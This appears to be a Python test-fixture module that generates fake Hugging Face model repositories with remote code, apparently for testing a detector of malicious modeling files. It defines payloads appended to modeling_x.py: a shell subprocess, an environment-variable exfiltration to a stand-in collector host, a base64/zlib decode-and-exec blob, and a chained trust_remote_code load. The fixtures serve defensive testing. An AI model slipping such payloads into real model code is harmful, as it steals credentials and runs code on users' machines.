"""Real-shaped Hugging Face repositories with remote code, written for the tests."""

from __future__ import annotations

import json
import struct
from pathlib import Path

CONFIGURATION = '''\
"""X model configuration."""

from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class XConfig(PretrainedConfig):
    model_type = "x"

    def __init__(self, vocab_size=32000, hidden_size=256, num_layers=2, rope_theta=10000.0, **kw):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        self.rope_theta = rope_theta
        super().__init__(**kw)
'''

MODELING = '''\
"""PyTorch X model."""

import math
import os
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.modeling_outputs import CausalLMOutputWithPast
from transformers.utils import logging

from .configuration_x import XConfig
from .rotary import apply_rotary

logger = logging.get_logger(__name__)
_CHECKPOINT_FOR_DOC = "acme/x-small"
torch.backends.cuda.matmul.allow_tf32 = True


class XAttention(nn.Module):
    def __init__(self, config: XConfig):
        super().__init__()
        self.scale = 1.0 / math.sqrt(config.hidden_size)
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.use_flash = os.environ.get("X_USE_FLASH", "0") == "1"

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        q, k, v = self.qkv(x).chunk(3, dim=-1)
        q, k = apply_rotary(q, k)
        return F.scaled_dot_product_attention(q, k, v, attn_mask=mask)


class XPreTrainedModel(PreTrainedModel):
    config_class = XConfig
    base_model_prefix = "model"

    def load_extra_state(self, path: str) -> dict:
        state_path = os.path.join(path, "extra_state.bin")
        return torch.load(state_path, map_location="cpu")

    def save_extra_state(self, path: str, state: dict) -> None:
        with open(os.path.join(path, "extra_state.json"), "w") as fp:
            fp.write(str(state))


class XForCausalLM(XPreTrainedModel):
    def __init__(self, config: XConfig):
        super().__init__(config)
        self.layers = nn.ModuleList(XAttention(config) for _ in range(config.num_layers))
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)

    def forward(self, hidden: torch.Tensor, labels=None) -> Tuple[torch.Tensor, ...]:
        for layer in self.layers:
            hidden = hidden + layer(hidden)
        logits = self.lm_head(hidden)
        loss = None
        if labels is not None:
            loss = F.cross_entropy(logits.view(-1, logits.size(-1)), labels.view(-1))
        return CausalLMOutputWithPast(loss=loss, logits=logits)
'''

ROTARY = """\
import torch


def apply_rotary(q: torch.Tensor, k: torch.Tensor):
    half = q.shape[-1] // 2
    rot = lambda t: torch.cat((-t[..., half:], t[..., :half]), dim=-1)  # noqa: E731
    return q + rot(q), k + rot(k)
"""

TOKENIZATION = """\
import json
import os
import unicodedata
from functools import lru_cache

from transformers import PreTrainedTokenizer

VOCAB_FILES_NAMES = {"vocab_file": "vocab.json"}


@lru_cache()
def bytes_to_unicode():
    bs = list(range(ord("!"), ord("~") + 1))
    return dict(zip(bs, [chr(b) for b in bs]))


class XTokenizer(PreTrainedTokenizer):
    vocab_files_names = VOCAB_FILES_NAMES

    def __init__(self, vocab_file, **kwargs):
        with open(vocab_file, encoding="utf-8") as fp:
            self.encoder = json.load(fp)
        super().__init__(**kwargs)

    def _tokenize(self, text):
        return list(unicodedata.normalize("NFKC", text))

    def save_vocabulary(self, save_directory, filename_prefix=None):
        path = os.path.join(save_directory, (filename_prefix or "") + "vocab.json")
        with open(path, "w", encoding="utf-8") as fp:
            json.dump(self.encoder, fp)
        return (path,)
"""

#: Payloads a malicious modeling module appends (each runs when the module is imported).
SUBPROCESS = """
import subprocess as sp

sp.Popen(["/bin/sh", "-c", "id > /tmp/pwned"])
"""
EXFILTRATE = """
import json as _j
import urllib.request

_url = "http://collector.example/c"
_req = urllib.request.Request(_url, data=_j.dumps(dict(os.environ)).encode())
urllib.request.urlopen(_req)
"""
DECODE_EXEC = """
import base64, zlib

_blob = "eJzLzE3NVzC0VEhLLMnMs0pKzSxRyCvNTQIAMMQGMw=="
exec(zlib.decompress(base64.b64decode(_blob)))
"""
PULL_CODE = """
from transformers import AutoModel

_helper = AutoModel.from_pretrained("someone/helper", trust_remote_code=True)
"""


def write(root: Path, files: dict[str, str | bytes | dict[str, object]]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            text = content if isinstance(content, str) else json.dumps(content, indent=2)
            path.write_text(text, encoding="utf-8")
    return root


def safetensors() -> bytes:
    """A valid safetensors file holding one float32 tensor of four zeros."""
    header = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(16)


def config(auto_map: dict[str, str]) -> dict[str, object]:
    return {
        "architectures": ["XForCausalLM"],
        "model_type": "x",
        "auto_map": auto_map,
        "hidden_size": 256,
        "torch_dtype": "float32",
    }


LOCAL_MAP = {
    "AutoConfig": "configuration_x.XConfig",
    "AutoModelForCausalLM": "modeling_x.XForCausalLM",
}


def remote_code_model(
    root: Path, *, payload: str = "", auto_map: dict[str, str] | None = None
) -> Path:
    """A model whose config maps to modeling_x.py (which imports .configuration_x and .rotary)
    and whose tokenizer maps to tokenization_x.py; ``payload`` is appended to modeling_x.py."""
    return write(root, {
        "config.json": config(auto_map or LOCAL_MAP),
        "tokenizer_config.json": {
            "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]},
            "model_max_length": 2048,
        },
        "configuration_x.py": CONFIGURATION,
        "modeling_x.py": MODELING + payload,
        "rotary.py": ROTARY,
        "tokenization_x.py": TOKENIZATION,
        "model.safetensors": safetensors(),
        "README.md": "---\nlicense: apache-2.0\n---\n# X\n",
    })  # fmt: skip


def notebook(cells: list[str]) -> dict[str, object]:
    return {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Demo\n"]},
            *(
                {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                 "source": cell.splitlines(keepends=True)}
                for cell in cells
            ),
        ],
        "metadata": {"kernelspec": {"name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }  # fmt: skip


SETUP_PY = """\
from setuptools import find_packages, setup

setup(name="x-model", version="0.1", packages=find_packages())
"""
